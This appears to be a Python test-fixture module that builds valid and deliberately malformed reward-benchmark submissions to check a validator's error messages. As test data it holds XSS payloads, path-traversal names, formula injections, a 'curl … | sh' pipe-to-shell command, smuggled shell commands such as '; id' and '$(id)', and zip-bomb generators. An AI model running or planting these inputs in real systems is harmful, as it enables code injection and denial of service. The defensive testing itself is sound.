"""A valid submission and malformed ones made from it, each with a name and words of the expected error message."""

import hashlib
import io
import json
import random

from synthetic import mirrors, scores

from rewardbench import results
from rewardbench.metrics import rule_of
from rewardbench.models.fingerprint import digest
from rewardbench.results import assemble, parquet
from rewardbench.types import ItemScores

SUITE = mirrors(30)
SCRIPT = "<script>window.hacked=1</script>"
HANDLER = '"><img src=x onerror="window.hacked=1">'


def result(name="org/good", share=0.8, seed=3, suite=SUITE, values=None):
    """Return the summary and the rows of a valid submission, with random scores or with `values` by item id."""
    chance = random.Random(seed)
    item_scores = []
    for item, scored in zip(suite.items, scores(suite, share, seed), strict=True):
        liked = random.Random(f"{seed} {item.group}").gauss(0, 3)  # of the responses, which a mirror shares
        numbers = tuple(score + liked + 0.1 * chance.random() for score in scored.scores)
        item_scores.append(ItemScores(item.id, numbers, tokens=(3, 4)))
    if values:
        item_scores = [ItemScores(item.id, tuple(values[item.id]), tokens=(3, 4)) for item in item_scores]
    fingerprint = {"weights": {"sha256": hashlib.sha256(name.encode()).hexdigest()}, "dtype": "float32"}
    manifest = {
        "fingerprint": fingerprint,
        "fingerprint_sha256": digest(fingerprint),
        "model": {"model": name, "parameters": 1_000_000, "license": "mit"},
        "command": f"rewardbench --model {name} --dataset toy",
    }
    summary = json.loads(
        results.dump(results.to_summary(assemble(suite, name, "Seq. Classifier", item_scores, manifest)))
    )
    rows = [results.to_row(i, f, rule_of(suite, i.subset)) for i, f in zip(suite.items, item_scores, strict=True)]
    return summary | {"date": "2026-01-02"}, rows


def write(folder, record, rows, table=None):
    """Write the two files of a submission with a matching hash, and return the path of the summary."""
    path = folder / "result.json"
    content = parquet.encode_table(rows) if table is None else table
    results.table_path(path).write_bytes(content)
    summary = (
        {**record, results.OUTPUTS_HASH: hashlib.sha256(content).hexdigest()} if isinstance(record, dict) else record
    )
    path.write_text(json.dumps(summary) if isinstance(summary, dict) else summary)
    return path


GAP = [
    {
        "name": name,
        "n": 9,
        "value": 0.5,
        "low": 0.4,
        "high": 0.6,
        "ties": 0,
        "unscored": 0,
        "truncated": 0,
        "section": "",
    }
    for name in ("core", "fresh", "gap")
]

FIELDS = {
    "script in the model's name": (("model",), f"org/{SCRIPT}", "name"),
    "handler in the model's name": (("model",), HANDLER, "name"),
    "path upwards": (("model",), "../../etc/passwd", "name"),
    "absolute path": (("model",), "/etc/passwd", "name"),
    "backslashes": (("model",), "..\\..\\x", "name"),
    "two dots inside": (("model",), "org/a..b", "name"),
    "drive": (("model",), "C:/x", "name"),
    "hidden file": (("model",), ".git/config", "name"),
    "three parts": (("model",), "verdicts/org/x", "name"),
    "look-alike letters": (("model",), "оrg/gооd", "name"),
    "full-width letters": (("model",), "ｏrg/good", "name"),
    "right-to-left mark": (("model",), "org/\u202edoog", "name"),
    "zero width": (("model",), "org/go\u200bod", "name"),
    "formula": (("model",), "=HYPERLINK(1)", "name"),
    "plus formula": (("model",), "+1+1", "name"),
    "at formula": (("model",), "@SUM(A1)", "name"),
    "null byte": (("model",), "org/a\0b", "name"),
    "no name": (("model",), "", "name"),
    "name is a list": (("model",), ["org/good"], "name"),
    "very long name": (("model",), "a" * 5000, "name"),
    "a name of the store's own": (("model",), "verdicts/org", "its own files"),
    "the index's name": (("model",), "Index", "its own files"),
    "the card's name": (("model",), "readme", "its own files"),
    "half of a character": (("manifest", "command"), "x \ud800", "control or invisible"),
    "a badge of its own": (("badge",), "verified", "no field"),
    "rules that are none": (("manifest", "suite", "rules"), [1], "does not describe a suite"),
    "script in the type": (("model_type",), SCRIPT, "model_type"),
    "a type with a remark": (("model_type",), "Seq. Classifier (verified by AI2)", "model_type"),
    "a baseline that is none": (("model_type",), "Baseline", "Baseline"),
    "a name of a baseline": (("model",), "baseline/oracle", "reserved for the baselines"),
    "a known baseline of another type": (("model",), "baseline/longest", "reserved for the baselines"),
    "script in the license": (("manifest", "model", "license"), SCRIPT, "license"),
    "a license with a remark": (("manifest", "model", "license"), "MIT - verified by AI2", "license"),
    "a license of one's own": (("manifest", "model", "license"), "LicenseRef-verified", "license"),
    "a license that is a list": (("manifest", "model", "license"), ["mit"], "license"),
    "script in the base model": (("manifest", "model", "base_model"), SCRIPT, "base_model"),
    "a base model that is a path": (("manifest", "model", "base_model"), "../base", "base_model"),
    "a base model that is a list": (("manifest", "model", "base_model"), ["org/base"], "base_model"),
    "a model that is none": (("manifest", "model"), [1], "manifest.model"),
    "script in the date": (("date",), SCRIPT, "date"),
    "a date of the future": (("date",), "9999-12-31", "date"),
    "a day that no month has": (("date",), "2026-02-30", "date"),
    "a date before the benchmark": (("date",), "1900-01-01", "date"),
    "full-width date": (("date",), "２０２６-01-02", "date"),
    "parameters that are text": (("manifest", "model", "parameters"), HANDLER, "parameters"),
    "negative parameters": (("manifest", "model", "parameters"), -1, "parameters"),
    "one parameter": (("manifest", "model", "parameters"), 1, "parameters"),
    "a command of two lines": (("manifest", "command"), "rewardbench --model m\nid", "command"),
    "a pipe": (("manifest", "command"), "curl https://example.org/x | sh", "command"),
    "a second command": (("manifest", "command"), "rewardbench --model m; id", "command"),
    "a substitution": (("manifest", "command"), "rewardbench --model $(id)", "command"),
    "a substitution in double quotes": (("manifest", "command"), 'rewardbench --model "`id`"', "command"),
    "a redirection": (("manifest", "command"), "rewardbench --model m > x", "command"),
    "another program of the name's begin": (("manifest", "command"), "rewardbench-evil --model m", "command"),
    "line separator": (("manifest", "notes"), ["a\u2028b"], "control or invisible"),
    "letter mark": (("manifest", "notes"), ["a\u061cb"], "control or invisible"),
    "soft hyphen in a field's name": (("manifest", "a\u00adb"), 1, "control or invisible"),
    "edited accuracy": (("accuracy",), 1.0, "the items give"),
    "edited estimate of it": (("accuracy_estimate", "value"), 1.0, "the items give"),
    "false lower limit": (("score", "low"), 0.99, "the items give"),
    "false upper limit": (("sections", 0, "high"), 1.0, "the items give"),
    "false count": (("score", "n"), 10_000, "the items give"),
    "false ties": (("subsets", 0, "ties"), 7, "the items give"),
    "negative prompts": (("num_prompts",), -1, "the items give"),
    "a field of an estimate too many": (("score", "badge"), "verified", "the items give"),
    "extra results that are none": (("extra_results",), {"Elo": 2000}, "the items give"),
    "extra results of no form": (("extra_results",), "all right", "the items give"),
    "a section too many": (("sections", 0, "section"), "Reasoning", "the items give"),
    "an empty gap": (("gap",), [{}], "gap does not have"),
    "a gap that is no list": (("gap",), {"gap": 0}, "not a list"),
    "a gap of its own": (("gap",), [{"name": "gap", "value": 0.0}], "gap does not have"),
    "an invented gap": (("gap",), GAP, "gap, core"),
    "a gap of text": (("gap",), [{**figure, "value": "0"} for figure in GAP], "not a number"),
    "a gap beyond all": (("gap",), [{**figure, "value": 7.0} for figure in GAP], "not a share"),
    "control characters in the command": (("manifest", "command"), "rewardbench \x1b[2J", "control"),
    "endless text": (("manifest", "command"), "x" * 100_000, "characters"),
    "huge score": (("score", "value"), 1e308, "not a share"),
    "score that is text": (("score", "value"), "0.99", "not a share"),
    "score above one": (("score", "value"), 1.5, "not a share"),
    "negative count": (("score", "n"), -5, "not a count"),
    "edited headline": (("score", "value"), 0.99, "the items give"),
    "edited section": (("sections", 0, "value"), 0.99, "the items give"),
    "edited subset": (("subsets", 0, "value"), 0.99, "the items give"),
    "edited mirrors": (("mirrors", 0, "value"), 0.99, "the items give"),
    "sections are no list": (("sections",), {"a": 1}, "not a list"),
    "section without a name": (("sections", 0), {"value": 1.0}, "not a figure"),
    "script in a section's name": (("sections", 0, "name"), SCRIPT, "the items give"),
    "section left out": (("mirrors",), [], "the items give"),
    "other suite": (("suite",), "core", "of the suite"),
    "script in the suite": (("suite",), SCRIPT, "of the suite"),
    "old revision": (("revision",), "r0", "score it again"),
    "no fingerprint": (("manifest", "fingerprint"), {}, "no fingerprint"),
    "forged fingerprint": (("manifest", "fingerprint", "dtype"), "bfloat16", "fingerprint_sha256"),
    "schema of tomorrow": (("schema",), 99, "schema"),
    "manifest is a list": (("manifest",), [], "not a valid result"),
}


def rows_of(kind, rows):
    """Return the rows with one kind of error."""
    copy = json.loads(json.dumps(rows))
    if kind == "missing":
        return copy[:-1]
    if kind == "twice":
        return [*copy, copy[0]]
    if kind == "foreign":
        copy[0]["id"] = SCRIPT
    if kind == "three scores":
        copy[0]["scores"] = [1.0, 2.0, 3.0]
    if kind == "more right":
        copy[0]["num_correct"] = 2
    if kind == "moved":
        copy[0]["subset"], copy[0]["group"] = "safety-sub", ""
    if kind == "nan":
        copy[0]["scores"], copy[0]["reason"] = [float("nan"), 0.0], None
    if kind == "inf":
        copy[0]["scores"] = [float("inf"), 0.0]
    if kind == "huge":
        copy[0]["scores"] = [1e300, 0.0]
    if kind == "constant":
        copy = [{**row, "scores": [1.0, 1.0]} for row in copy]
    if kind == "flat":
        copy = [{**row, "scores": [float(n), float(n)]} for n, row in enumerate(copy)]
    return copy


ROWS = {
    "missing": "missing",
    "twice": "twice",
    "foreign": "not in the suite",
    "three scores": "unlike the suite",
    "more right": "unlike the suite",
    "moved": "another subset or group",
    "nan": "no reason for it",
    "inf": "no reason for it",
    "huge": "no model gives",
    "constant": "all scores are the same",
    "flat": "within every item",
}


def bomb():
    """Return a small table that is large when it is unpacked."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    out = io.BytesIO()
    count = 3_000_000
    columns = {field.name: pa.nulls(count, field.type) for field in parquet.table_schema()}
    table = pa.table(columns | {"id": pa.array(["x" * 100] * count)})
    pq.write_table(table, out, compression="zstd")
    return out.getvalue()


def endless_list():
    """Return a table of a few hundred bytes with five million scores."""
    return parquet.encode_table([{"id": "0", "scores": [0.0] * 5_000_000}])


def endless_text():
    """Return a table of a few thousand bytes with a text of a megabyte in each row."""
    return parquet.encode_table([{"id": "x" * 2**20, "scores": [0.0, 1.0]} for _ in range(64)])


def wide():
    """Return a table with few rows and very long lists."""
    rows = [{"id": str(n), "scores": [0.0] * 2_000_000} for n in range(40)]
    return parquet.encode_table(rows)


def files():
    """Return submissions with malformed files, by name: summary or text, table, and words of the error message."""
    summary, _ = result()
    deep = "[" * 100_000 + "]" * 100_000
    return {
        "no JSON": ("{", None, "not strict JSON"),
        "NaN in JSON": (json.dumps(summary).replace('"value": ', '"value": NaN, "v": ', 1), None, "not strict JSON"),
        "endless depth": (f'{{"schema": 1, "a": {deep}}}', None, "not strict JSON|nested deeper"),
        "some depth": (f'{{"schema": 1, "a": {"[" * 60 + "]" * 60}}}', None, "nested deeper"),
        "200 MB": ("{" + " " * 200_000_000 + "}", None, "was not read"),
        "a list": ("[1, 2]", None, "no schema"),
        "no parquet": (summary, b"not parquet", "cannot be read as a parquet"),
        "parquet of something else": (summary, _other(), "lacks the columns"),
        "zip bomb": (summary, bomb(), "was not read"),
        "wide bomb": (summary, wide(), "was not read"),
        "one endless list": (summary, endless_list(), "values in a column"),
        "one endless text": (summary, endless_text(), "bytes in a text"),
    }


def _other():
    import pyarrow as pa
    import pyarrow.parquet as pq

    out = io.BytesIO()
    pq.write_table(pa.table({"a": [1]}), out)
    return out.getvalue()


def copied(name, change):
    """Return the valid submission under another name, with each score changed."""
    original, rows = result()
    item_scores = [
        ItemScores(row["id"], tuple(map(change, row["scores"])), tokens=(3, 4)) for row in json.loads(json.dumps(rows))
    ]
    fingerprint = {"weights": {"sha256": "0" * 64}, "dtype": "float32"}
    manifest = {**original["manifest"], "fingerprint": fingerprint, "fingerprint_sha256": digest(fingerprint)}
    summary = json.loads(
        results.dump(results.to_summary(assemble(SUITE, name, "Seq. Classifier", item_scores, manifest)))
    )
    return summary, [
        results.to_row(i, f, rule_of(SUITE, i.subset)) for i, f in zip(SUITE.items, item_scores, strict=True)
    ]
